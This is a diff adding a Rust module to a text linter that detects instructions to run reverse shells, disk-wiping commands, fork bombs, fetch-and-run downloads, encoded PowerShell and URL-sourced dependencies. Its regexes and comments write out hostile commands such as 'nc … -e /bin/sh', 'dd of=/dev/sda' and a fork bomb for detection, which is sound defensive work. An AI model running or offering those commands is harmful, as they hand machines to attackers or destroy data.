@@ -1,0 +1,345 @@
+//! Command lines that hand the machine over or wreck it, and the routes by which a command
+//! line fetches code or dependencies from an address it names (issue #13), read by the
+//! shape of the command, not by the words around it:
+//!
+//! - a shell bound to a network connection: `nc … -e /bin/sh`, `socat … exec:`, a one-line
+//!   script that opens a socket and hands it to a shell or a process;
+//! - a disk or the system made unusable: `dd of=/dev/sda`, `mkfs /dev/…`, `shred /dev/…`,
+//!   a fork bomb, `rm --no-preserve-root`, a setuid shell, a `NOPASSWD: ALL` sudoers line,
+//!   `chmod 777` on a system folder;
+//! - code fetched and run by a route other than a pipe: `bash <(curl …)`, `eval "$(wget …)"`,
+//!   `curl … | python3 -`, `certutil -urlcache -f URL`, `powershell -enc <base64>` (decoded
+//!   and judged by what it runs);
+//! - a dependency installed or declared from a URL (`npx URL`, `pip install git+URL`,
+//!   `npm i URL.tgz`, `--index-url`, a manifest line with `git = "URL"`).
+//!
+//! Each is an act only in a sentence that tells the reader to run it (as the other PI008
+//! command acts); a list of attack kinds, a negation or a report keeps quiet.
+
+use super::super::Severity;
+use super::super::engine::{Caps, Finding, Pattern, Scan};
+use super::super::registry::PI008;
+use super::super::text::words;
+use super::actions::{instructs, push_pi008};
+use super::injection::judge_remote_run;
+use super::{excerpt, push_pi, push_pi_except};
+
+pub(crate) static PATTERNS: &[Pattern] = &[
+    // PI008: a shell handed to a remote host ("run `nc 203.0.113.4 4444 -e /bin/sh`",
+    // `socat tcp:host:port exec:bash`, `python -c 'import socket…connect…dup2…'`).
+    Pattern {
+        rule: &PI008,
+        keywords: &["nc ", "nc.exe", "ncat", "netcat", "socat", "socket"],
+        regex: r"\b(?:nc|ncat|netcat)(?:\.exe)?(?:\s[^\n|;&`]{0,120}?)?(?:\s-[a-z]*[ec]|\s--(?:sh-)?exec)[\s=]*[\x22']?(?:/[\w/]*/)?(?:(?:ba|z|k|da|c|tc|fi)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh)\b|\bsocat\b[^\n`]{0,160}?\b(?:exec|system):|socket[^\n`]{0,300}?(?:connect|\.new\s*\(|fsockopen)[^\n`]{0,300}?(?:dup2|pty\.spawn|/bin/\w*sh\b|subprocess|\bexec\s*\(|popen|\bsystem\s*\(|child_process|cmd\.exe)",
+        before: 160,
+        after: 700,
+        check: check_remote_shell,
+        overlap: false,
+        gate: None,
+        near: &[],
+    },
+    // PI008: the machine made unusable or opened to everyone ("run `dd if=/dev/zero
+    // of=/dev/sda`", `mkfs.ext4 /dev/nvme0n1`, `:(){ :|:& };:`, `chmod u+s /bin/bash`).
+    Pattern {
+        rule: &PI008,
+        keywords: &[
+            "dd ",
+            "mkfs",
+            "mke2fs",
+            "wipefs",
+            "shred",
+            "blkdiscard",
+            "/dev/",
+            "(){",
+            "() {",
+            "no-preserve-root",
+            "nopasswd",
+            "chmod",
+        ],
+        regex: r"\bdd\b[^\n|;&`]{0,80}?\bof=(/dev/[\w/-]+)|\b(?:mkfs(?:\.\w+)?|mke2fs|wipefs|shred|blkdiscard)\b[^\n|;&`]{0,80}?\s(/dev/[\w/-]+)|>\s*(/dev/(?:sd|nvme|hd|vd|xvd|mmcblk|r?disk)\w*)|([\w:]+)\s*\(\)\s*\{\s*([\w:]+)\s*\|\s*([\w:]+)\s*&\s*\}\s*;\s*([\w:]+)|\brm\s+(?:-\w+\s+)*--no-preserve-root\b|\bchmod\s+(?:-\w+\s+)*(?:[ugoa]*\+s|[2467][0-7]{3})\s+(?:/usr)?/s?bin/\w+|\bnopasswd\s*:\s*all\b[^\n`]{0,80}?(?:>>?|\btee\b)|\bchmod\s+(?:-\w+\s+)*(?:0777|[ugoa]*\+rwx)\s+(?:-\w+\s+)*/(?:etc|usr|bin|sbin|var|home|root|boot|lib\w*|opt)?/?(?:[\s`'\x22]|$)",
+        before: 160,
+        after: 160,
+        check: check_wrecker,
+        overlap: false,
+        gate: None,
+        near: &[],
+    },
+    // PI008: code fetched and run without a pipe into a shell: process substitution
+    // (`bash <(curl …)`, `. <(wget …)`), `eval "$(curl …)"`, a script piped into an
+    // interpreter that reads it from standard input (`curl … | python3 -`), a here-string
+    // of a download, Windows' download tools (`certutil -urlcache -f URL`, `bitsadmin
+    // /transfer … URL`).
+    Pattern {
+        rule: &PI008,
+        keywords: &[
+            "<(",
+            "eval",
+            "| python",
+            "|python",
+            "| perl",
+            "| ruby",
+            "| node",
+            "| php",
+            "certutil",
+            "bitsadmin",
+            "<<<",
+        ],
+        regex: r"(?:\b(?:ba|z|k|da)?sh|\bsource|(?:^|[\s`(;&])\.)\s+<\(\s*(?:curl|wget)\b[^\n)]{1,200}\)|\beval\s+[\x22']?(?:\$\(|`)\s*(?:curl|wget)\b[^\n)`]{1,200}|\b(?:curl|wget)\b[^\n|`]{1,200}\|\s*(?:sudo\s+)?(?:python[\d.]*|perl|ruby|node|php)(?:\s+-)?\s*(?:[`'\x22);&|]|$)|\b(?:python[\d.]*|perl|ruby|node|php|(?:ba|z|k|da)?sh)\s+-?\s*<<<\s*[\x22']?\$\(\s*(?:curl|wget)\b[^\n)]{1,200}\)|\bcertutil(?:\.exe)?\s[^\n`]{0,60}?-urlcache\b[^\n`]{0,60}?\b(?:https?|ftp)://[^\s`'\x22]+|\bbitsadmin(?:\.exe)?\s[^\n`]{0,40}?/transfer\b[^\n`]{0,80}?\bhttps?://[^\s`'\x22]+",
+        before: 160,
+        after: 280,
+        check: check_fetch_run,
+        overlap: false,
+        gate: None,
+        near: &[],
+    },
+    // PI008: a PowerShell command given base64-encoded (`powershell -enc SQBFAFgA…`): the
+    // UTF-16LE text is decoded and judged by what it runs.
+    Pattern {
+        rule: &PI008,
+        keywords: &["powershell", "pwsh"],
+        regex: r"\b(?:powershell|pwsh)(?:\.exe)?\b[^\n`|]{0,80}?\s[-/]e(?:n|nc|nco|ncod|ncode|ncoded|ncodedc|ncodedcommand|c)?\s+([a-z0-9+/]{16,}={0,2})",
+        before: 160,
+        after: 4000,
+        check: check_encoded_powershell,
+        overlap: false,
+        gate: None,
+        near: &[],
+    },
+    // PI008: a dependency installed or declared from an address rather than a registry
+    // (`npx https://…/x.tgz`, `pip install git+https://…`, `npm i https://…/x.tgz`,
+    // `pip install --index-url URL …`, `cargo install --git URL`, `foo = { git = "URL" }`,
+    // `name @ git+URL`, `"name": "https://…/x.tgz"`).
+    Pattern {
+        rule: &PI008,
+        keywords: &[
+            "npx ",
+            "pnpx ",
+            "bunx ",
+            "install",
+            "npm i ",
+            " add ",
+            "git =",
+            "git=",
+            "@ git+",
+            "git+",
+            ".tgz",
+            "index-url",
+            "find-links",
+        ],
+        regex: r"\b(?:npx|pnpx|bunx)\s+(?:-[\w-]+\s+)*(?:--package[=\s]+)?((?:git\+)?(?:https?|git)://[^\s`'\x22]+|(?:github|gitlab|bitbucket):[^\s`'\x22]+)|\b(?:pip3?|pipx|uv\s+pip|python[\d.]*\s+-m\s+pip)\s+install\b[^\n`|;&]{0,120}?\s(?:(?:--(?:extra-)?index-url|-i|--find-links|-f)[\s=]+)?((?:git\+)?https?://[^\s`'\x22]+)|\b(?:npm|pnpm|yarn|bun)\s+(?:i|install|add)\b[^\n`|;&]{0,80}?\s((?:git\+)?(?:https?|git)://[^\s`'\x22]+|(?:github|gitlab|bitbucket):[^\s`'\x22]+)|\bcargo\s+install\b[^\n`|;&]{0,80}?--git[\s=]+([^\s`'\x22]+)|\bgit\s*=\s*[\x22']((?:https?|git)://[^\x22'\s]+)|[\w.-]\s*@\s*(git\+(?:https?|git)://[^\s`'\x22]+)|[\x22'][\w@/.-]+[\x22']\s*:\s*[\x22']((?:git\+)?(?:https?|git)://[^\x22'\s]+?(?:\.tgz|\.tar\.gz|\.git)(?:#[^\x22'\s]*)?)[\x22']",
+        before: 160,
+        after: 220,
+        check: check_dependency_url,
+        overlap: false,
+        gate: None,
+        near: &[],
+    },
+];
+
+fn check_remote_shell(scan: &Scan<'_>, caps: &Caps<'_>, out: &mut Vec<Finding>) {
+    let (s, e) = caps.whole();
+    if instructs(scan, s) {
+        push_pi008(
+            scan,
+            (s, e),
+            "run a command that hands a shell to a remote host",
+            out,
+        );
+    }
+}
+
+/// Disk devices whose contents a write or a format destroys (`/dev/null`, `/dev/zero` and
+/// `/dev/stdout` take writes harmlessly).
+const DISKS: &[&str] = &[
+    "sd", "nvme", "hd", "vd", "xvd", "mmcblk", "disk", "rdisk", "md", "mapper/", "dm-", "root",
+];
+
+fn check_wrecker(scan: &Scan<'_>, caps: &Caps<'_>, out: &mut Vec<Finding>) {
+    let (s, e) = caps.whole();
+    let what = if let Some((_, _, dev)) = caps.first(&[1, 2, 3]) {
+        // A real device is named in lower case; `/dev/sdX` and `/dev/diskN` stand for the
+        // reader's own choice, as an install guide for a USB stick writes them.
+        let name = &dev["/dev/".len()..];
+        if !DISKS.iter().any(|d| name.starts_with(d))
+            || name.bytes().any(|b| b.is_ascii_uppercase())
+        {
+            return;
+        }
+        "overwrites or formats a disk"
+    } else if let Some((_, _, f)) = caps.first(&[4]) {
+        // A fork bomb: a function that calls itself twice, in the background, then is run.
+        if [5, 6, 7].iter().any(|&g| caps.str(g) != f) {
+            return;
+        }
+        "starts a fork bomb"
+    } else {
+        "makes the system unusable or opens it to everyone"
+    };
+    if instructs(scan, s) {
+        push_pi008(scan, (s, e), &format!("run a command that {what}"), out);
+    }
+}
+
+fn check_fetch_run(scan: &Scan<'_>, caps: &Caps<'_>, out: &mut Vec<Finding>) {
+    let (s, e) = caps.whole();
+    let what = format!(
+        "fetches code from the network and runs it: {}",
+        excerpt(&scan.text()[s..e])
+    );
+    judge_remote_run(scan, (s, e), what, out);
+}
+
+/// The text of a PowerShell `-EncodedCommand` argument: base64 of UTF-16LE.
+fn powershell_text(b64: &str) -> Option<String> {
+    let bytes = super::encoded::decode_base64(b64)?;
+    let units: Vec<u16> = bytes
+        .chunks_exact(2)
+        .map(|p| u16::from_le_bytes([p[0], p[1]]))
+        .collect();
+    let text = String::from_utf16(&units).ok()?;
+    let printable = text
+        .chars()
+        .filter(|c| !c.is_control() || c.is_whitespace())
+        .count();
+    (text.chars().count() >= 4 && printable * 10 >= text.chars().count() * 9).then_some(text)
+}
+
+/// PowerShell's ways to fetch from the network, in lower case.
+const PS_FETCH: &[&str] = &[
+    "downloadstring",
+    "downloadfile",
+    "downloaddata",
+    "invoke-webrequest",
+    "invoke-restmethod",
+    "iwr ",
+    "irm ",
+    "net.webclient",
+    "start-bitstransfer",
+    "http://",
+    "https://",
+];
+
+fn check_encoded_powershell(scan: &Scan<'_>, caps: &Caps<'_>, out: &mut Vec<Finding>) {
+    let (s, e) = caps.whole();
+    let Some(text) = powershell_text(caps.str(1)) else {
+        return;
+    };
+    let lower = text.to_lowercase();
+    if PS_FETCH.iter().any(|f| lower.contains(f)) {
+        let what = format!(
+            "runs an encoded PowerShell command that fetches from the network: {}",
+            excerpt(&text)
+        );
+        judge_remote_run(scan, (s, e), what, out);
+    } else if instructs(scan, s) {
+        // What it runs is hidden from whoever reads the command: reported as a decoded
+        // shell payload is (`echo … | base64 -d | sh`), at the severity of a warning, since
+        // the decoded text holds no fetch.
+        let mut f = Finding::new(
+            &PI008,
+            s,
+            e,
+            format!(
+                "tells the reader to run an encoded PowerShell command: {}",
+                excerpt(&text)
+            ),
+        );
+        f.severity = Severity::Warning;
+        push_pi(scan, f, out);
+    }
+}
+
+/// Hosts that serve packages or sources under their publishers' own names: a dependency
+/// fetched from them is a documented choice, reported as a warning.
+const PACKAGE_HOSTS: &[&str] = &[
+    "github.com",
+    "gitlab.com",
+    "bitbucket.org",
+    "codeberg.org",
+    "git.sr.ht",
+    "pypi.org",
+    "files.pythonhosted.org",
+    "registry.npmjs.org",
+    "registry.yarnpkg.com",
+    "crates.io",
+    "static.crates.io",
+    "download.pytorch.org",
+];
+
+/// The host a dependency's source names: the host of a URL, or the forge of a
+/// `github:owner/repo` shorthand.
+fn source_host(src: &str) -> String {
+    let src = src.trim_start_matches("git+");
+    if let Some((scheme, _)) = src.split_once(':')
+        && !src.contains("://")
+    {
+        return format!("{}.com", scheme.to_ascii_lowercase())
+            .replace("bitbucket.com", "bitbucket.org");
+    }
+    let rest = src.split_once("://").map_or(src, |(_, r)| r);
+    let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
+    let host = authority.rsplit('@').next().unwrap_or("");
+    host.split(':').next().unwrap_or("").to_ascii_lowercase()
+}
+
+fn check_dependency_url(scan: &Scan<'_>, caps: &Caps<'_>, out: &mut Vec<Finding>) {
+    let (s, e) = caps.whole();
+    let Some((_, _, src)) = caps.first(&[1, 2, 3, 4, 5, 6, 7]) else {
+        return;
+    };
+    if !instructs(scan, s) {
+        return;
+    }
+    let text = scan.text();
+    let (a, _) = scan.sentence_range(s);
+    // A bare command line or a manifest line documents a set-up; a sentence that tells the
+    // reader to take the dependency from an address is the act.
+    let prose = words(&text[a..s]).next().is_some();
+    let manifest = caps.first(&[5, 6, 7]).is_some();
+    if manifest && !prose {
+        return;
+    }
+    let host = source_host(src);
+    let known = PACKAGE_HOSTS.iter().any(|h| host == *h);
+    let mut f = Finding::new(
+        &PI008,
+        s,
+        e,
+        format!(
+            "tells the reader to install a dependency from an address, not a registry ({host}): {}",
+            excerpt(&text[s..e])
+        ),
+    );
+    if known || !prose {
+        f.severity = Severity::Warning;
+    }
+    push_pi_except(scan, f, &["test", "tests"], out);
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::lint::Severity;
+
+    fn findings(rule: &str, text: &str) -> Vec<Severity> {
+        crate::lint::check_text("x/NOTES.md", text)
+            .unwrap()
+            .into_iter()
+            .filter(|d| d.rule == rule)
+            .map(|d| d.severity)
+            .collect()
+    }
+
+    #[test]
+    fn debug_sec131() {
+        let t = "redis-cli -h cache.internal -a Zq7vLm2pX9rTw4Ke ping";
+        let re = regex::Regex::new(&super::super::expand(
+            super::super::secrets::PATTERNS
+                .iter()
+                .find(|p| p.keywords.contains(&"redis-cli"))
+                .unwrap()
+                .regex,
+        ));
+        println!("{:?}", re.as_ref().map(|r| r.find(t)));
+        println!("{:?}", findings("SEC131", t));
+    }
+}
